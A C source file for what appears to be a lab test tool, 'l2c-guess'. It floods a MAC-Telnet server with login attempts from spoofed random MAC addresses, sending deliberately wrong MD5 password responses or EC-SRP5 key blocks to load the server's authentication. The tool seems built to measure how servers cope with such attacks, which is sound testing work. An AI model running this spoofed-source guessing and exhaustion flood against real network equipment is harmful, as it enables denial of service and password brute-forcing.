/* SPDX-License-Identifier: ISC */
/*
 * Lab tool: a password guesser against a MAC-Telnet server, as a
 * station on the segment would run it (issue 19, rows 1 and 5).
 *   l2c-guess [-e] [-w MS] IFACE SERVERMAC USER MODE RATE SECONDS
 * starts RATE logins a second for SECONDS, each from a fresh random
 * MAC (Ethernet source and header alike), key and port:
 *   md5    START, begin auth; on the salt a wrong MD5 response for USER;
 *          then, with -e, END at once (the attacker that counts on a
 *          success showing at once), else the answer is awaited (up to
 *          -w MS, default 3000) and END follows it;
 *   ecsrp  START, begin auth with an EC-SRP5 key block for USER (the
 *          server's expensive step); END once the server's key arrives.
 * Prints "started N salts N guesses N answers N errors N seconds S" at
 * the end: salts are key blocks received, guesses the responses sent,
 * answers the verdicts seen (end auth, or the failure text).  The
 * interface must take frames to any MAC (promiscuous): replies go to the
 * random MACs.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "core/buf.h"
#include "core/ctx.h"
#include "core/err.h"
#include "core/frame.h"
#include "core/link.h"
#include "core/loop.h"
#include "mac/ecsrp.h"
#include "mac/md5auth.h"
#include "mac/mt_proto.h"
#include "lib/rawtool.h"

#define TICK_US		1000
#define SLOTS		65536	/* one per session key */

enum st { FREE, BEGUN, GUESSED };

struct att {
	enum st		st;
	uint8_t		mac[L2C_ETH_ALEN];
	uint16_t	key, port;
	uint32_t	out;		/* our counter */
	uint64_t	deadline;
};

struct guess {
	struct rawtool	 rt;
	uint8_t		 server[L2C_ETH_ALEN];
	const char	*user;
	int		 ecsrp, end_at_once;
	uint64_t	 wait_us;
	uint8_t		 wc[ECSRP_KEY_LEN];
	struct att	 a[SLOTS];
	uint64_t	 started, salts, guesses, answers, errors;
	uint64_t	 last;		/* the last expiry run */
};

static uint64_t
rnd(struct guess *g)
{
	return rawtool_rnd(&g->rt);
}

/* One packet of attempt a (header and payload) to the server. */
static void
send_pkt(struct guess *g, struct att *a, uint8_t type, uint32_t counter,
    const uint8_t *p, size_t n)
{
	uint8_t		 frame[L2C_ETH_MAXLEN];
	struct l2c_wbuf	 w;
	struct mt_hdr	 h;

	memset(&h, 0, sizeof(h));
	h.type = type;
	memcpy(h.src, a->mac, L2C_ETH_ALEN);
	memcpy(h.dst, g->server, L2C_ETH_ALEN);
	h.session = a->key;
	h.client_type = MT_CLIENT_TYPE;
	h.counter = counter;
	l2c_wbuf_init(&w, frame, sizeof(frame));
	if (mt_packet_build(&w, MT_C2S, &h, p, n, l2c_mac_bcast, 0, a->port,
	    MT_PORT) != 0 || l2c_link_send(g->rt.link, frame, w.len) != 0)
		g->errors++;
}

static void
data(struct guess *g, struct att *a, const uint8_t *p, size_t n)
{
	send_pkt(g, a, MT_PT_DATA, a->out, p, n);
	a->out += (uint32_t)n;
}

static void
finish(struct guess *g, struct att *a)
{
	send_pkt(g, a, MT_PT_END, 0, NULL, 0);
	a->st = FREE;
}

/* A new login from nowhere: START and begin auth at once. */
static void
start_one(void *arg)
{
	struct guess	*g = arg;
	struct att	*a;
	uint8_t		 buf[256], kb[128];
	struct l2c_wbuf	 w, k;
	uint64_t	 v;
	int		 n;

	/* A free key (they are the slots); else the oldest use of one. */
	for (n = 0, a = &g->a[rnd(g) % SLOTS]; a->st != FREE && n < 8; n++)
		a = &g->a[rnd(g) % SLOTS];
	if (a->st != FREE)
		finish(g, a);
	memset(a, 0, sizeof(*a));
	v = rnd(g);
	memcpy(a->mac, &v, L2C_ETH_ALEN);
	a->mac[0] = (uint8_t)((a->mac[0] & 0xfc) | 0x02);
	a->key = (uint16_t)(a - g->a);
	a->port = (uint16_t)(1024 + rnd(g) % 1024);
	a->st = BEGUN;
	a->deadline = l2c_now_us() + g->wait_us + 2000000;
	send_pkt(g, a, MT_PT_START, 0, NULL, 0);
	l2c_wbuf_init(&w, buf, sizeof(buf));
	(void)mt_cpkt_put(&w, MT_CP_BEGINAUTH, NULL, 0);
	if (g->ecsrp) {
		l2c_wbuf_init(&k, kb, sizeof(kb));
		(void)l2c_put_bytes(&k, g->user, strlen(g->user));
		(void)l2c_put_u8(&k, 0);
		(void)l2c_put_bytes(&k, g->wc, sizeof(g->wc));
		(void)mt_cpkt_put(&w, MT_CP_PASSSALT, kb, k.len);
	}
	data(g, a, buf, w.len);
	g->started++;
}

/* A wrong response to the salt, with the rest of the login packet. */
static void
guess_one(struct guess *g, struct att *a, const uint8_t *salt)
{
	uint8_t		 buf[256], resp[MT_MD5_RESP_LEN];
	char		 pw[32];
	struct l2c_wbuf	 w;

	snprintf(pw, sizeof(pw), "guess%llu", (unsigned long long)rnd(g));
	(void)mt_md5_response(pw, salt, resp);
	l2c_wbuf_init(&w, buf, sizeof(buf));
	(void)mt_cpkt_put(&w, MT_CP_PASSWORD, resp, sizeof(resp));
	(void)mt_cpkt_put(&w, MT_CP_USERNAME, g->user, strlen(g->user));
	(void)mt_cpkt_put(&w, MT_CP_TERM_TYPE, "vt102", 5);
	(void)mt_cpkt_put_le16(&w, MT_CP_TERM_WIDTH, 80);
	(void)mt_cpkt_put_le16(&w, MT_CP_TERM_HEIGHT, 24);
	data(g, a, buf, w.len);
	a->st = GUESSED;
	g->guesses++;
	if (g->end_at_once)
		finish(g, a);
}

static struct att *
find(struct guess *g, const struct mt_hdr *h)
{
	struct att	*a = &g->a[h->session];

	return a->st != FREE && memcmp(a->mac, h->dst, L2C_ETH_ALEN) == 0 ?
	    a : NULL;
}

static void
on_rx(void *arg, const struct l2c_pkt *pkt)
{
	struct guess	*g = arg;
	struct l2c_rbuf	 r, c;
	struct mt_hdr	 h;
	struct mt_cpkt	 cp;
	struct att	*a;
	const uint8_t	*salt = NULL;
	size_t		 saltlen = 0;
	int		 failed = 0, endauth = 0;

	if (!pkt->udp_ok || pkt->sport != MT_PORT)
		return;
	l2c_rbuf_init(&r, pkt->udata, pkt->ulen);
	if (mt_hdr_parse(&r, MT_S2C, &h) != 0 || (a = find(g, &h)) == NULL)
		return;
	if (h.type == MT_PT_END) {
		a->st = FREE;
		return;
	}
	if (h.type != MT_PT_DATA)
		return;
	send_pkt(g, a, MT_PT_ACK, h.counter + (uint32_t)l2c_rbuf_left(&r),
	    NULL, 0);
	l2c_rbuf_init(&c, pkt->udata + (pkt->ulen - l2c_rbuf_left(&r)),
	    l2c_rbuf_left(&r));
	while (mt_cpkt_next(&c, &cp) == 1) {
		if (cp.type == MT_CP_PASSSALT) {
			salt = cp.data;
			saltlen = cp.len;
		} else if (cp.type == MT_CP_END_AUTH)
			endauth = 1;
		else if (cp.type == MT_CP_DATA &&
		    memmem(cp.data, cp.len, "incorrect", 9) != NULL)
			failed = 1;
	}
	if (a->st == BEGUN && salt != NULL) {
		g->salts++;
		if (g->ecsrp || saltlen != MT_MD5_SALT_LEN)
			finish(g, a);
		else
			guess_one(g, a, salt);
	} else if (a->st == GUESSED && (endauth || failed)) {
		g->answers++;
		finish(g, a);
	}
}

/* Attempts that got no answer in time are given up. */
static void
expire(struct guess *g, uint64_t now)
{
	size_t	i;

	for (i = 0; i < SLOTS; i++)
		if (g->a[i].st != FREE && g->a[i].deadline < now)
			finish(g, &g->a[i]);
}

static int
busy(const struct guess *g)
{
	size_t	i;

	for (i = 0; i < SLOTS; i++)
		if (g->a[i].st != FREE)
			return 1;
	return 0;
}

static int
usage(void)
{
	fprintf(stderr, "usage: l2c-guess [-e] [-w MS] IFACE SERVERMAC USER "
	    "md5|ecsrp RATE(1..20000) SECONDS(..60)\n");
	return 64;
}

/* Each tick of the paced run: attempts past their time, ten a second. */
static void
turn(void *arg, uint64_t now)
{
	struct guess	*g = arg;

	if (now - g->last > 100000) {
		expire(g, now);
		g->last = now;
	}
}

int
main(int argc, char **argv)
{
	static struct guess	 g;
	struct ecsrp		*ec;
	uint8_t			 priv[ECSRP_LEN];
	uint64_t		 rate, now, end;
	int			 ch, ex;

	g.wait_us = 3000000;
	while ((ch = getopt(argc, argv, "ew:")) != -1) {
		if (ch == 'e')
			g.end_at_once = 1;
		else if (ch == 'w')
			g.wait_us = strtoull(optarg, NULL, 10) * 1000;
		else
			return usage();
	}
	argc -= optind;
	argv += optind;
	if (argc != 6 || l2c_mac_parse(argv[1], g.server) != 0 ||
	    (rate = strtoull(argv[4], NULL, 10)) == 0 || rate > 20000 ||
	    atof(argv[5]) <= 0 || atof(argv[5]) > 60 ||
	    (strcmp(argv[3], "md5") != 0 && strcmp(argv[3], "ecsrp") != 0))
		return usage();
	g.user = argv[2];
	g.ecsrp = strcmp(argv[3], "ecsrp") == 0;
	/* One real client key serves every begin auth: the server's work
	 * per begin auth is the same. */
	if (g.ecsrp && (ecsrp_new(&ec) != 0 || ecsrp_random_scalar(priv) != 0 ||
	    ecsrp_pubkey(ec, priv, g.wc) != 0)) {
		fprintf(stderr, "l2c-guess: no EC-SRP5 key\n");
		return 1;
	}
	if ((ex = rawtool_open(&g.rt, "l2c-guess", argv[0], on_rx, &g)) != 0)
		return ex;
	(void)rawtool_pace(&g.rt, rate, atof(argv[5]), start_one, turn, &g);
	/* The answers still due: no new logins meanwhile. */
	end = g.rt.now + (g.end_at_once || g.ecsrp ? 500000 : g.wait_us);
	while ((now = l2c_now_us()) < end && busy(&g))
		(void)l2c_loop_once(g.rt.loop, 10 * TICK_US);
	printf("started %llu salts %llu guesses %llu answers %llu "
	    "errors %llu seconds %.3f\n", (unsigned long long)g.started,
	    (unsigned long long)g.salts, (unsigned long long)g.guesses,
	    (unsigned long long)g.answers,
	    (unsigned long long)g.errors, (double)(now - g.rt.t0) / 1e6);
	rawtool_close(&g.rt);
	return 0;
}
